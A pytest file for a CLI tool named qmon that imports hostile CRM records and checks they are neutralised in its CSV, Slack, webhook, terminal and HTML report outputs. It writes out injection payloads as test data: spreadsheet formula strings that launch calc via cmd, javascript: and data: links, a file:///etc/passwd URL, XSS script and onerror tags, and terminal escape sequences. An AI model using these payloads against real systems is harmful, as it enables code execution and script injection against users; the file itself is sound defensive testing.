"""CRM data must not attack the reader: hostile subject ids, owners, accounts and record links
go in through `qmon import`, and come out inert in every place qmon shows them.

One store of hostile records (below), read through the real surfaces: the audit's CSV and
tables, `qmon check` against the fake Slack (single messages and a digest) and a webhook,
the weekly report as HTML (parsed, and opened in Chromium under its Content-Security-Policy)
and as text, and `qmon explain`.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.clihelp import qmon
from tests.fakes.slack import FakeSlack

AS_OF = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)  # a Wednesday; the week is 2026-W48
WEEK = "2026-W48"

#: Values an attacker can type into a CRM record, each aimed at one reader.
HOSTILE = {
    "slack-mentions": "<!channel> <!here> <@U123> & <!subteam^S1>",
    "slack-breakout": "x|<https://evil.example/phish|Click here>",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "ansi": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07osc8\x1b]8;;\x07\x1b[2J",
    "controls": "bell\x07back\x08\x08cr\roverwrite\x7fdel\x9bc1",
    "rich-markup": "[bold]B[/bold][link=https://evil.example]L[/link]",
    "html": '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "bidi": "\u202eexe.gnp",
}

#: Record links: only the http(s) ones may be shown as links.
LINKS = [
    "javascript:alert(document.domain)",
    " JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://crm.example/deal/1|<!channel>",
    'https://crm.example/deal/2"><script>alert(3)</script>',
    "HTTPS://CRM.EXAMPLE/deal/3",
    "ftp://crm.example/deal/4",
    "https://crm.example/deal/5",
]
ALLOWED = re.compile(r"(?i)https?://[^\s<>\"|\\^`{}]+")

#: What must never reach a terminal: C0 but newline, DEL, C1, bidi overrides.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def iso(moment: datetime) -> str:
    return moment.isoformat().replace("+00:00", "Z")


def _config(tmp_path: Path, slack: FakeSlack | None, digest_over: int = 100) -> Path:
    notify = ""
    if slack is not None:
        notify = f"""notify:
  slack:
    token: ${{SLACK_BOT_TOKEN}}
    channel: "#kwaliteit"
    base_url: {slack.base_url}
    digest_over: {digest_over}
"""
    path = tmp_path / "qmon.yaml"
    path.write_text(
        f"""version: 1
database: sqlite:///{tmp_path / "q.db"}
imports: {{attributes: [priority]}}
promises:
  - id: quote-24h
    title: "Quote <!channel> & <@U999> within 24 hours"
    phase: sales
    start: quote.requested
    stop: quote.sent
    within: 24h
{notify}"""
    )
    return path


def _records() -> list[dict[str, str]]:
    """One deal per hostile value (its id, owner and account) and one per link, all broken
    six hours before AS_OF, so each is alerted and listed in the week's breaches."""
    started = iso(AS_OF - timedelta(hours=30))
    rows = []
    values = list(HOSTILE.values())
    for n in range(max(len(values), len(LINKS))):
        value = values[n % len(values)]
        rows.append({"id": f"e-{n}", "occurred_at": started, "type": "quote.requested",
                     "subject_type": "deal", "subject_id": value if n < len(values) else
                     f"D-{n}", "owner": value, "account": value, "channel": value,
                     "priority": value, "link": LINKS[n % len(LINKS)]})  # fmt: skip
    return rows


@pytest.fixture
def slack():
    with FakeSlack(retry_after=0) as fake:
        fake.add_channel("kwaliteit")
        yield fake


def _imported(tmp_path: Path, slack: FakeSlack | None = None, digest_over: int = 100) -> Path:
    config = _config(tmp_path, slack, digest_over)
    data = tmp_path / "hostile.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in _records()), encoding="utf-8")
    env = {"SLACK_BOT_TOKEN": slack.token} if slack is not None else None
    result = qmon("--config", config, "import", data, env=env)
    assert result.exit_code == 0, result.output
    return config


def stored(value: str) -> str:
    """A value as the import keeps it (trimmed at the ends)."""
    return value.strip()


def _assert_terminal_safe(output: str) -> None:
    assert "\x1b" not in output
    assert CONTROL.findall(output) == []


# --- CSV: no cell a spreadsheet would run ------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("--instances",),
        ("--by", "owner"),
        ("--by", "account"),
        ("--by", "channel"),
        ("--by", "priority"),  # a stored attribute, read on the general path
    ],
)
def test_audit_csv_neutralises_formulas(tmp_path: Path, args: tuple[str, ...]):
    config = _imported(tmp_path)
    result = qmon("--config", config, "audit", "--as-of", iso(AS_OF), "--format", "csv", *args)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    # a breakdown by an attribute groups its values as conditions compare them (case-folded)
    shown = str.casefold if args == ("--by", "priority") else str
    for value in map(stored, HOSTILE.values()):
        if value.startswith(TRIGGERS):
            assert "'" + shown(value) in cells  # shown, as text
    header = rows[0]
    numeric = [header.index(c) for c in ("elapsed_seconds", "met", "breached") if c in header]
    for row in rows[1:]:
        for k in numeric:
            if row[k]:
                float(row[k])  # numbers stay numbers


# --- Slack and the webhook: mrkdwn escaped, links only http(s) ---------------------------------


def _mrkdwn(node: object) -> list[str]:
    """Every text a block holds."""
    if isinstance(node, dict):
        return [t for key, value in node.items()
                for t in ([value] if key == "text" and isinstance(value, str)
                          else _mrkdwn(value))]  # fmt: skip
    if isinstance(node, list):
        return [t for item in node for t in _mrkdwn(item)]
    return []


def _slack_controls(text: str) -> list[str]:
    """Every `<...>` Slack would act on (a link, a mention, a special command)."""
    return re.findall(r"<([^>]*)>", text)


@pytest.mark.parametrize("digest_over", [100, 3], ids=["messages", "digest"])
def test_slack_gets_escaped_values_and_only_http_links(tmp_path, slack, digest_over):
    config = _imported(tmp_path, slack, digest_over)
    result = qmon("--config", config, "check", "--as-of", iso(AS_OF),
                  env={"SLACK_BOT_TOKEN": slack.token})  # fmt: skip
    assert result.exit_code == 0, result.output
    messages = slack.messages("kwaliteit")
    assert len(messages) == (len(_records()) if digest_over == 100 else 1)
    seen_links = []
    for message in messages:
        for text in [message.text, *_mrkdwn(message.blocks)]:
            for control in _slack_controls(text):
                url, _, label = control.partition("|")
                assert ALLOWED.fullmatch(url), control  # no <!channel>, <@U…>, javascript:
                assert "<" not in label and "|" not in label
                seen_links.append(url)
            assert "<!channel>" not in text and "<!here>" not in text and "<@U" not in text
    if digest_over == 100:  # a digest lists texts, without links
        assert "https://crm.example/deal/5" in seen_links
        assert "HTTPS://CRM.EXAMPLE/deal/3" in seen_links
        assert "https://crm.example/deal/1%7C%3C!channel%3E" in seen_links
        shown = " ".join(str(m.blocks) for m in messages)
        assert "&lt;!channel&gt; &lt;!here&gt; &lt;@U123&gt; &amp;" in shown
        assert "Quote &lt;!channel&gt; &amp; &lt;@U999&gt; within 24 hours" in shown


HOOK = "https://hooks.example/webhook/key"


def test_webhook_text_is_escaped_like_slack(tmp_path, httpx_mock):
    config = _imported(tmp_path)
    text = config.read_text()
    config.write_text(text + f"notify:\n  webhook: {{url: {HOOK}}}\n")
    for _ in _records():
        httpx_mock.add_response(url=HOOK, method="POST", status_code=200)
    result = qmon("--config", config, "check", "--as-of", iso(AS_OF))
    assert result.exit_code == 0, result.output
    payloads = [json.loads(r.content) for r in httpx_mock.get_requests()]
    assert len(payloads) == len(_records())
    for payload in payloads:
        assert _slack_controls(payload["text"]) == []
        assert "javascript" not in payload["text"].lower()
    assert {p["subject_id"] for p in payloads} >= set(map(stored, HOSTILE.values()))


# --- terminals: no control characters, no rich markup ------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("audit", "--as-of", iso(AS_OF), "--instances"),
        ("audit", "--as-of", iso(AS_OF), "--by", "owner"),
        ("audit", "--as-of", iso(AS_OF), "--by", "account"),
        ("audit", "--as-of", iso(AS_OF), "--by", "priority"),
        ("check", "--as-of", iso(AS_OF), "--dry-run"),
        ("report", "weekly", "--week", WEEK, "--as-of", iso(AS_OF)),
        ("status",),
    ],
    ids=lambda a: " ".join(a[:3]),
)
def test_terminal_output_is_inert(tmp_path, args):
    config = _imported(tmp_path)
    result = qmon("--config", config, *args)
    assert result.exit_code == 0, result.output
    _assert_terminal_safe(result.stdout)
    if args[0] != "status":  # the markup is shown, not applied (a priority case-folded)
        assert ("[bold]b[/bold]" if "priority" in args else "[bold]B[/bold]") in result.stdout
        assert "javascript:" not in result.stdout.lower()


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_explain_prints_a_hostile_subject_inertly(tmp_path, name):
    config = _imported(tmp_path)
    value = stored(HOSTILE[name])
    result = qmon("--config", config, "explain", "--as-of", iso(AS_OF), "--", "quote-24h", value)
    assert result.exit_code == 0, result.output
    _assert_terminal_safe(result.stdout)
    assert "breached" in result.stdout
    if name == "rich-markup":
        assert "[bold]B[/bold][link=https://evil.example]L[/link]" in result.stdout


# --- the weekly report's HTML ------------------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture
def weekly_html(tmp_path: Path) -> Path:
    config = _imported(tmp_path)
    out = tmp_path / "weekly.html"
    result = qmon("--config", config, "report", "weekly", "--week", WEEK, "--as-of", iso(AS_OF),
                  "--out", out)  # fmt: skip
    assert result.exit_code == 0, result.output
    return out


def test_weekly_html_links_only_http_and_escapes_values(weekly_html: Path):
    html = weekly_html.read_text(encoding="utf-8")
    page = _Page()
    page.feed(html)
    tags = [t for t, _ in page.tags]
    assert "script" not in tags and tags.count("img") == sum(
        1 for t, a in page.tags if t == "img" and (a.get("src") or "").startswith("data:image/png")
    )
    hrefs = [a["href"] for t, a in page.tags if t == "a"]
    assert hrefs and all(ALLOWED.fullmatch(h or "") for h in hrefs), hrefs
    assert "https://crm.example/deal/2%22%3E%3Cscript%3Ealert(3)%3C/script%3E" in hrefs
    for tag, attrs in page.tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
    policy = [a for t, a in page.tags if t == "meta" and a.get("http-equiv")]
    assert policy == [{"http-equiv": "Content-Security-Policy", "content": (
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; "
        "form-action 'none'")}]  # fmt: skip
    shown = "".join(page.text)
    assert '<script>alert(1)</script><img src=x onerror="alert(2)">' in shown  # as text
    assert CONTROL.findall(shown) == []


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium (.ci/run installs it)")
def test_weekly_html_runs_no_script_in_a_browser(weekly_html: Path, tmp_path: Path):
    """Even markup slipped past the escaping (simulated: injected into a copy) cannot run:
    the report's own policy blocks inline scripts, event handlers and javascript: links."""
    trap = ('<script>document.title="pwned-inline"</script>'
            '<img src="x" onerror="document.title=\'pwned-onerror\'">'
            '<iframe src="javascript:parent.document.title=\'pwned-frame\'"></iframe>')  # fmt: skip
    copy = tmp_path / "trap.html"
    copy.write_text(weekly_html.read_text(encoding="utf-8").replace("</body>", trap + "</body>"))
    dom = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         f"--user-data-dir={tmp_path / 'chromium'}", "--virtual-time-budget=3000",
         "--dump-dom", copy.as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    ).stdout  # fmt: skip
    title = dom.split("<title>", 1)[1].split("</title>", 1)[0]
    assert "pwned" not in title and WEEK in title


def test_actions_list_prints_a_hostile_description_inertly(tmp_path):
    config = _imported(tmp_path)
    value = HOSTILE["ansi"] + HOSTILE["rich-markup"]
    added = qmon("--config", config, "actions", "add", "quote-24h", value, "--kind", "corrective",
                 "--date", "2026-11-02")  # fmt: skip
    assert added.exit_code == 0, added.output
    result = qmon("--config", config, "actions", "list")
    assert result.exit_code == 0, result.output
    _assert_terminal_safe(result.stdout)
    assert "[bold]B[/bold]" in result.stdout


@pytest.mark.parametrize(
    ("text", "limit", "shown"),
    [
        ("a &amp; b", 4, "a "),  # "a &a" would show as such: cut before the entity
        ("a &amp; b", 6, "a "),
        ("a &amp; b", 7, "a &amp;"),
        ("a &lt;b", 5, "a "),
        ("abc", 140, "abc"),
    ],
)
def test_digest_lines_are_never_cut_inside_an_entity(text, limit, shown):
    from qmon.alerts.message import _clip

    assert _clip(text, limit) == shown
